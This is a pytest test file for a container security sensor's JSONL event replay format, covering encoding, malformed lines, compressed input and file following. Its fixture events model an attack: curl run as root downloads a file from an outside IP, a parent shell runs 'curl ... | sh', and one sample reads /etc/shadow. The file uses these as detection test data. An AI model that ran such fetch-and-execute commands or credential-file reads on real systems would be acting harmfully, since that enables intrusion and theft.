"""JSONL recording format: encode/decode round trip, bad lines, compressed input."""

from __future__ import annotations

import gzip
import io
import sys
import threading
from pathlib import Path
from typing import Any

import orjson
import pytest
import zstandard

from hardhull.errors import SensorError
from hardhull.model.event import ContainerInfo, Event, ProcInfo
from hardhull.runtime.jsonio import LineReader, format_time_ns, parse_time_ns
from hardhull.runtime.sensor.replay import (
    DecodeError,
    ReplaySensor,
    event_from_json,
    event_to_json,
)

WEB = ContainerInfo(
    id="3f2a9c1b7d0e",
    full_id="3f2a9c1b7d0e" + "a" * 52,
    name="web",
    image="docker.io/library/nginx:1.27",
    image_repository="docker.io/library/nginx",
    image_tag="1.27",
    image_digest="sha256:" + "b" * 64,
    engine="podman",
    privileged=False,
    started_at=1718010000000000000,
    labels={"app": "web"},
    pod_name="web-7d9f8c6b5-x2x7q",
    pod_namespace="shop",
    pod_labels={"app.kubernetes.io/name": "web"},
)


def _exec_event() -> Event:
    return Event(
        source="syscall",
        type="execve",
        time=1718010764123456789,
        fields={
            "proc.pid": 4242,
            "proc.name": "curl",
            "proc.exe": "curl",
            "proc.exepath": "/usr/bin/curl",
            "proc.args": ("-sSfL", "http://198.51.100.7:8080/x", "-o", "/tmp/x"),
            "proc.tty": 0,
            "proc.is_exe_upper_layer": False,
            "proc.ancestors": (
                ProcInfo(4200, "sh", "sh", "/usr/bin/dash", ("-c", "curl ... | sh")),
                ProcInfo(1, "nginx", "nginx", "/usr/sbin/nginx", ("-g", "daemon off;")),
            ),
            "user.uid": 0,
            "user.name": "root",
            "thread.cap_effective": ("CAP_CHOWN", "CAP_NET_BIND_SERVICE"),
            "evt.res": "SUCCESS",
            "container.id": "3f2a9c1b7d0e",
        },
        container=WEB,
    )


def _lines(path: Path, lines: list[bytes]) -> Path:
    path.write_bytes(b"\n".join(lines) + b"\n")
    return path


def test_round_trip_keeps_types() -> None:
    event = _exec_event()
    line = event_to_json(event)
    assert b"\n" not in line
    back = event_from_json(orjson.loads(line))
    assert back == event
    assert isinstance(back.fields["proc.args"], tuple)
    assert back.fields["proc.ancestors"][0] == ProcInfo(
        4200, "sh", "sh", "/usr/bin/dash", ("-c", "curl ... | sh")
    )
    assert back.fields["thread.cap_effective"] == ("CAP_CHOWN", "CAP_NET_BIND_SERVICE")
    assert back.container is not None
    assert back.container.workload == "shop/web-7d9f8c6b5-x2x7q"
    assert dict(back.container.pod_labels) == {"app.kubernetes.io/name": "web"}
    assert back.container.privileged is False


def test_round_trip_host_and_audit_record() -> None:
    record = {"verb": "get", "objectRef": {"resource": "secrets", "name": "a"}, "x": [1, 2]}
    event = Event("k8s_audit", "k8s_audit", 5, {"jevt.value": record})
    back = event_from_json(orjson.loads(event_to_json(event)))
    assert back.container is None
    assert back.fields["jevt.value"] == record  # nested lists stay lists
    assert isinstance(back.fields["jevt.value"]["x"], list)


def test_container_defaults_are_not_written() -> None:
    doc = orjson.loads(event_to_json(Event("syscall", "openat", 1, {}, ContainerInfo(id="host"))))
    assert doc["container"] == {"id": "host"}


def test_rfc3339_time_accepted() -> None:
    event = event_from_json(
        {"source": "syscall", "type": "openat", "time": "2024-06-10T09:12:44.123456789Z"}
    )
    assert event.time == 1718010764123456789
    assert event.fields == {}
    assert parse_time_ns("2024-06-10T11:12:44.5+02:00") == 1718010764500000000
    assert format_time_ns(1718010764123456789) == "2024-06-10T09:12:44.123456789Z"


@pytest.mark.parametrize(
    "obj",
    [
        [1, 2],
        {"type": "openat", "time": 1},
        {"source": "syscall", "time": 1},
        {"source": "syscall", "type": "openat", "time": "yesterday"},
        {"source": "syscall", "type": "openat", "time": 1.5},
        {"source": "syscall", "type": "openat", "time": 1, "fields": [1]},
        {"source": "syscall", "type": "execve", "time": 1, "fields": {"proc.ancestors": [3]}},
        {"source": "syscall", "type": "execve", "time": 1, "container": {"name": "x"}},
        {"source": "syscall", "type": "execve", "time": 1, "container": {"id": "a", "name": 3}},
        {"source": "syscall", "type": "execve", "time": 1, "container": "abc"},
    ],
)
def test_invalid_records_raise_decode_error(obj: Any) -> None:
    with pytest.raises(DecodeError):
        event_from_json(obj)


def test_sensor_counts_and_skips_bad_lines(tmp_path: Path) -> None:
    good = event_to_json(_exec_event())
    path = _lines(
        tmp_path / "events.jsonl",
        [
            good,
            b"not json at all",
            b'{"source": "syscall", "type": "openat"}',
            b"",
            b"\xff\xfe\x00garbage",
            b'{"source": "syscall", "type": "openat", "time": 7, '
            b'"fields": {"fd.name": "/etc/shadow"}}',
            b'{"truncated": ',
        ],
    )
    sensor = ReplaySensor(path)
    events = list(sensor.events())
    sensor.close()
    assert [e.type for e in events] == ["execve", "openat"]
    assert events[1].fields["fd.name"] == "/etc/shadow"
    stats = sensor.stats()
    assert (stats.received, stats.malformed, stats.lost) == (2, 4, 0)


class _CountingStream(io.BytesIO):
    """Records the largest single read the reader asked for."""

    largest = 0

    def readline(self, size: int | None = -1) -> bytes:
        data = super().readline(size)
        self.largest = max(self.largest, len(data))
        return data


def test_oversized_line_skipped_without_holding_it() -> None:
    good = event_to_json(_exec_event())
    huge = (
        b'{"source": "syscall", "type": "openat", "time": 1, "fields": {"x": "'
        + (b"A" * 5_000_000)
        + b'"}}'
    )
    stream = _CountingStream(good + b"\n" + huge + b"\n" + good + b"\n" + b"B" * 300_000)
    sensor = ReplaySensor(stream, max_line=4096)
    events = list(sensor.events())
    assert len(events) == 2
    assert sensor.stats().malformed == 2  # the huge line and the unterminated huge tail
    assert stream.largest <= 1 << 16  # never more than one chunk or one bounded line


def test_gzip_and_zstd(tmp_path: Path) -> None:
    data = event_to_json(_exec_event()) + b"\n"
    (tmp_path / "e.jsonl.gz").write_bytes(gzip.compress(data * 3))
    (tmp_path / "e.jsonl.zst").write_bytes(zstandard.ZstdCompressor().compress(data * 2))
    for name, count in (("e.jsonl.gz", 3), ("e.jsonl.zst", 2)):
        sensor = ReplaySensor(tmp_path / name)
        assert [e.fields["proc.name"] for e in sensor.events()] == ["curl"] * count
        sensor.close()


def test_corrupt_gzip_is_one_clear_error(tmp_path: Path) -> None:
    (tmp_path / "bad.jsonl.gz").write_bytes(b"\x1f\x8b\x08\x00garbage-not-deflate")
    sensor = ReplaySensor(tmp_path / "bad.jsonl.gz")
    with pytest.raises(SensorError, match=r"bad\.jsonl\.gz"):
        list(sensor.events())


def test_stdin(monkeypatch: pytest.MonkeyPatch) -> None:
    data = event_to_json(_exec_event()) + b"\n"
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
    sensor = ReplaySensor("-")
    assert len(list(sensor.events())) == 1


def test_missing_file_and_directory(tmp_path: Path) -> None:
    with pytest.raises(SensorError, match="no such events file"):
        ReplaySensor(tmp_path / "nope.jsonl")
    with pytest.raises(SensorError, match="is a directory"):
        ReplaySensor(tmp_path)


def test_follow_waits_for_the_rest_of_a_line(tmp_path: Path) -> None:
    path = tmp_path / "grow.jsonl"
    path.write_bytes(b"first\nsec")
    with path.open("rb") as stream:
        reader = LineReader(stream, follow=True, poll_s=0.01)
        it = iter(reader)
        assert next(it) == b"first\n"
        got: list[bytes | None] = []
        worker = threading.Thread(target=lambda: got.append(next(it)))
        worker.start()
        with path.open("ab") as out:
            out.write(b"ond\n")
        worker.join(timeout=30)
        assert got == [b"second\n"]
        reader.stop()
        assert list(it) == []
